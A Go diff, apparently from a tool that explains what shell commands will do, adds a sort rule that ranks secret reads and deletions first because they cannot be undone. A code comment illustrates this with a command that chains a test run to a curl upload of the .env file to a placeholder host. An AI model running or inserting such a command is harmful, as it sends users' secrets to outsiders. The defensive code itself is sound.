@@ -170,13 +170,25 @@ func effectsOf(would []explain.Effect) (out []shownEffect) {
 	level := map[string]int{"high": 0, "mid": 1, "": 2}
 	hooks := map[bool]int{true: 1} // `git push` connects before it runs hooks
 	slices.SortStableFunc(would, func(a, b explain.Effect) int {
-		return cmp.Or(level[levelOf(&a)]-level[levelOf(&b)], hooks[a.Hooks]-hooks[b.Hooks])
+		return cmp.Or(level[levelOf(&a)]-level[levelOf(&b)], hooks[a.Hooks]-hooks[b.Hooks], forGood(&a)-forGood(&b))
 	})
 	for i := range would {
 		e := &would[i]
 		out = append(out, shownEffect{levelOf(e), e.Kind, display.Visible(e.Words)})
 	}
 	return out
+}
+
+// forGood orders effects of one level: a secret that is read is not a secret again, and what is deleted is gone; of
+// `npm test && curl -d @.env https://x` a row has room for one.
+func forGood(e *explain.Effect) int {
+	switch {
+	case e.Secret:
+		return 0
+	case e.Kind == "delete":
+		return 1
+	}
+	return 2
 }
 
 // levelOf says how much of a look an effect deserves.
